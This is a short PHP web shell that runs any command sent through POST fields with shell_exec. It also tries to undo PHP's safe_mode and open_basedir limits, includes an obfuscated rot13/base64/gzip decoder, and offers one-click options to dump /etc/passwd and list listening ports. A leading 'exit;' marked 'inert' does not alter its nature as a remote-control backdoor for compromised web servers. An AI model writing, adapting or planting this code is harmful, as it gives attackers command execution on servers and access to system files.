<?php exit; /* inert */ function decrypt_php_info($s) { return gzuncompress(base64_decode(str_rot13($s))); }
@ini_restore("safe_mode");
@ini_restore("open_basedir");
$mode = (@ini_get('safe_mode')) ? 'ON' : 'OFF';
echo "<b>Safe mode: $mode</b>";
$liz0 = isset($_POST['baba']) ? shell_exec($_POST['baba']) : '';
$liz0zim = isset($_POST['liz0']) ? shell_exec($_POST['liz0']) : '';
$uid = shell_exec('id');
echo "<pre><h4>"; echo $uid; echo $liz0; echo $liz0zim; echo "</h4></pre>";
?>
<form method="POST"><input name="baba"><select name="liz0">
<option value="cat /etc/passwd">/etc/passwd</option>
<option value="netstat -an | grep -i listen">ports</option></select><input type="submit"></form>
